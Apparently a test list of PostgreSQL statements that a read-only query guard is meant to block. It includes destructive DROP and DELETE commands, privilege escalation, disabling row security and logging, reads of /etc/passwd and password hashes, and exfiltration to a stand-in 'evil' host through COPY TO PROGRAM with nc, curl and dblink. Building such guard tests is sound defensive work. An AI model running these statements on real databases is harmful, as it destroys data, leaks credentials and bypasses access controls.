DELETE FROM orders

DELETE FROM orders WHERE true

DELETE FROM orders WHERE 1 = 1

DELETE FROM orders WHERE id = id

DELETE FROM orders WHERE id IS NOT NULL OR id IS NULL

DELETE FROM orders WHERE 'a' = 'a'

DELETE FROM orders WHERE id > 0 OR true

DELETE FROM orders WHERE note LIKE '%' OR note IS NULL

DELETE FROM orders WHERE NOT false

DELETE FROM orders WHERE id IN (SELECT id FROM orders)

DELETE FROM orders USING users

DELETE FROM orders WHERE EXISTS (SELECT 1)

DELETE FROM orders WHERE (SELECT true)

delete/**/from/* x */orders

DELETE FROM ONLY orders AS o

UPDATE users SET admin = true

UPDATE users SET admin = true WHERE 2 > 1

UPDATE users SET email = 'x' FROM orders

UPDATE users SET admin = true WHERE coalesce(true, admin)

WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d

WITH a AS (SELECT 1), b AS (UPDATE users SET x = 1 RETURNING 1) SELECT * FROM a

SELECT * FROM (WITH d AS (SELECT 1) SELECT * FROM d) x; DELETE FROM orders

EXPLAIN ANALYZE DELETE FROM orders

EXPLAIN (ANALYZE true, VERBOSE) UPDATE users SET x = 1

PREPARE p AS DELETE FROM orders; EXECUTE p

MERGE INTO a USING b ON true WHEN MATCHED THEN DELETE

COMMIT; DROP SCHEMA public CASCADE

ROLLBACK; DELETE FROM orders; BEGIN

SELECT 1; TRUNCATE orders

TRUNCATE orders CASCADE

TRUNCATE TABLE a, b RESTART IDENTITY

DROP TABLE users

DROP TABLE IF EXISTS a, b CASCADE

DROP SCHEMA public CASCADE

DROP DATABASE shop

DROP INDEX CONCURRENTLY idx

DROP VIEW v

DROP MATERIALIZED VIEW v

DROP FUNCTION f(int)

DROP EXTENSION pgcrypto

DROP TYPE t

DROP TRIGGER audit ON orders

DROP POLICY p ON orders

DROP ROLE bob

DROP OWNED BY bob

DROP USER MAPPING FOR bob SERVER s

DROP SUBSCRIPTION s

DROP PUBLICATION p

REASSIGN OWNED BY bob TO eve

ALTER TABLE users DROP COLUMN email

ALTER TABLE users ADD COLUMN x int

ALTER TABLE users ALTER COLUMN x TYPE bigint

ALTER TABLE users RENAME TO u

ALTER TABLE users DISABLE TRIGGER ALL

ALTER TABLE users DISABLE ROW LEVEL SECURITY

ALTER TABLE users OWNER TO eve

ALTER TABLE a DETACH PARTITION b

ALTER TABLE users SET UNLOGGED

ALTER SEQUENCE s RESTART WITH 1

ALTER SYSTEM SET archive_mode = off

ALTER DATABASE shop SET default_transaction_read_only = off

ALTER ROLE eve SUPERUSER

ALTER USER eve PASSWORD 'x'

ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO eve

ALTER VIEW v RENAME TO w

ALTER TYPE color ADD VALUE 'red'

CREATE TABLE x (id int)

CREATE TABLE x AS SELECT * FROM users

SELECT * INTO x FROM users

CREATE UNLOGGED TABLE x (id int)

CREATE INDEX idx ON orders (id)

CREATE UNIQUE INDEX CONCURRENTLY idx ON orders (id)

CREATE VIEW v AS SELECT * FROM users

CREATE OR REPLACE VIEW v AS SELECT * FROM users

CREATE MATERIALIZED VIEW mv AS SELECT 1

CREATE SCHEMA x

CREATE EXTENSION dblink

CREATE ROLE eve LOGIN PASSWORD 'x'

CREATE USER eve SUPERUSER

CREATE DATABASE x

CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ DELETE FROM orders $$

CREATE OR REPLACE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$

CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()

CREATE RULE r AS ON SELECT TO users DO INSTEAD DELETE FROM orders

CREATE POLICY p ON orders USING (true)

CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')

CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p

CREATE PUBLICATION p FOR ALL TABLES

CREATE FOREIGN TABLE f (a int) SERVER s

CREATE EVENT TRIGGER t ON ddl_command_start EXECUTE FUNCTION f()

CREATE LANGUAGE plpython3u

CREATE CAST (a AS b) WITH FUNCTION f(a)

CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = f)

CREATE AGGREGATE a (int) (SFUNC = f, STYPE = int)

CREATE TYPE color AS ENUM ('a')

CREATE DOMAIN d AS text

CREATE SEQUENCE s

CREATE TABLESPACE t LOCATION '/x'

IMPORT FOREIGN SCHEMA public FROM SERVER s INTO x

COMMENT ON TABLE orders IS 'x'

SECURITY LABEL ON TABLE orders IS 'x'

GRANT ALL ON orders TO eve

GRANT admin TO eve

GRANT SELECT ON ALL TABLES IN SCHEMA public TO PUBLIC

REVOKE ALL ON orders FROM app

SET ROLE postgres

SET LOCAL ROLE admin

SET SESSION AUTHORIZATION postgres

SELECT set_config('role', 'postgres', false)

SET session_replication_role = replica

SELECT set_config('session_replication_role', 'replica', true)

SET row_security = off

SET default_transaction_read_only = off

SET transaction_read_only = off

SET TRANSACTION READ WRITE

SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE

SET standard_conforming_strings = off

SET search_path = evil, pg_catalog

SET search_path = pg_temp, public

SET synchronous_commit = off

SET log_statement = 'none'

SET local_preload_libraries = 'x'

SET zero_damaged_pages = on

SET ignore_system_indexes = on

SET allow_system_table_mods = on

SET lo_compat_privileges = on

SET dbguard.subject = 'eve'

SELECT set_config('dbguard.subject', 'eve', false)

RESET dbguard.subject

SELECT set_config('dbguard' || '.subject', 'eve', false)

SELECT set_config(name, 'x', false) FROM t

UPDATE pg_settings SET setting = 'off' WHERE name = 'row_security'

UPDATE pg_catalog.pg_class SET relname = 'x' WHERE oid = 1

DELETE FROM pg_catalog.pg_proc WHERE oid = 1

INSERT INTO pg_catalog.pg_authid VALUES (1)

COPY users TO '/tmp/x'

COPY users FROM '/etc/passwd'

COPY users FROM PROGRAM 'curl evil'

COPY (SELECT * FROM users) TO PROGRAM 'nc evil 1'

COPY (DELETE FROM users RETURNING *) TO STDOUT

SELECT pg_read_file('/etc/passwd')

SELECT * FROM pg_read_binary_file('x')

SELECT * FROM pg_ls_dir('/')

SELECT pg_stat_file('x')

SELECT lo_import('/etc/passwd')

SELECT lo_export(1, '/tmp/x')

SELECT lo_from_bytea(0, 'x')

SELECT lo_unlink(1)

SELECT pg_logfile_rotate()

SELECT pg_rotate_logfile()

SELECT pg_terminate_backend(1)

SELECT pg_cancel_backend(pid) FROM pg_stat_activity

SELECT pg_reload_conf()

SELECT pg_switch_wal()

SELECT pg_create_restore_point('x')

SELECT pg_create_physical_replication_slot('x')

SELECT pg_drop_replication_slot('x')

SELECT * FROM pg_logical_slot_get_changes('x', NULL, NULL)

SELECT pg_promote()

SELECT pg_wal_replay_pause()

SELECT pg_stat_reset()

SELECT pg_stat_statements_reset()

SELECT setval('orders_id_seq', 1)

SELECT query_to_xml('DELETE FROM orders', true, true, '')

SELECT database_to_xml(true, true, '')

SELECT dblink_exec('host=evil', 'DROP TABLE x')

SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)

SELECT dblink_connect('host=evil')

SELECT http_get('http://evil')

SELECT my_function(1)

SELECT app.purge()

SELECT * FROM my_function()

SELECT 1 FROM users WHERE app.purge(id)

SELECT * FROM users ORDER BY purge(id)

INSERT INTO a VALUES (purge(1))

UPDATE a SET x = purge(1) WHERE id = 1

SELECT (SELECT purge(1))

SELECT CASE WHEN false THEN purge(1) END

SELECT * FROM a, LATERAL purge(a.id)

VALUES (purge(1))

CALL p()

DO $$ BEGIN DELETE FROM orders; END $$

DO $$ BEGIN EXECUTE 'drop table ' || 'x'; END $$

DO LANGUAGE plpgsql 'BEGIN PERFORM purge(); END'

LOAD '$libdir/x'

LOCK TABLE orders

LOCK TABLE orders IN EXCLUSIVE MODE

VACUUM FULL orders

CLUSTER orders

REINDEX TABLE orders

REINDEX DATABASE shop

REFRESH MATERIALIZED VIEW mv

CHECKPOINT

PREPARE TRANSACTION 'x'

COMMIT PREPARED 'x'

DECLARE c CURSOR FOR SELECT purge(1)

PREPARE p AS SELECT purge(1); EXECUTE p

SELECT 1; SELECT 2; SELECT purge(3)

SELECT U&"\0070urge"(1)

SELECT "PURGE"(1)

SELECT pg_catalog.pg_read_file('x')

SELECT 1 /* /* nested */ ; */; DROP TABLE x

SELECT 'a\'; DROP TABLE x; --'

SELECT E'a\'; SELECT 1; --'; DROP TABLE x

selct 1

DELETE orders

SELECT 1 WHERE 1 = 1; DELETE FROM a WHERE b = b

SELECT currtid(1)

ANALYZE VERBOSE; VACUUM (FULL)

NOTIFY x; ALTER TABLE a ADD b int

SELECT pg_extension_config_dump('x', '')

SELECT plpy_exec('x')

SELECT pg_file_write('x', 'y', true)

SELECT pg_replication_origin_create('x')

SELECT pg_import_system_collations('public')

SELECT ts_stat('DELETE FROM x')

SELECT * FROM ts_stat('SELECT purge()')

SELECT * FROM crosstab('DELETE FROM x RETURNING 1')

SELECT * FROM connectby('a', 'b', 'c', 'd', 0)

INSERT INTO a (b) SELECT purge(1) ON CONFLICT DO NOTHING

SELECT pg_advisory_lock(purge(1))

GRANT EXECUTE ON FUNCTION f TO PUBLIC

EXECUTE unknown_statement

ALTER EXTENSION x UPDATE

ALTER FUNCTION f() SECURITY DEFINER

ALTER SUBSCRIPTION s ENABLE

ALTER PUBLICATION p ADD TABLE x

ALTER SERVER s OPTIONS (SET host 'x')

ALTER POLICY p ON t USING (true)

ALTER EVENT TRIGGER t DISABLE

ALTER LARGE OBJECT 1 OWNER TO eve

ALTER STATISTICS s SET STATISTICS 1

CREATE STATISTICS s ON a, b FROM t

CREATE TEXT SEARCH CONFIGURATION x (COPY = english)

CREATE COLLATION c FROM "C"

CREATE CONVERSION c FOR 'A' TO 'B' FROM f

CREATE ACCESS METHOD m TYPE TABLE HANDLER h

CREATE TRANSFORM FOR int LANGUAGE sql (FROM SQL WITH FUNCTION f(internal))

SELECT rolname, rolpassword FROM pg_authid

SELECT * FROM pg_shadow
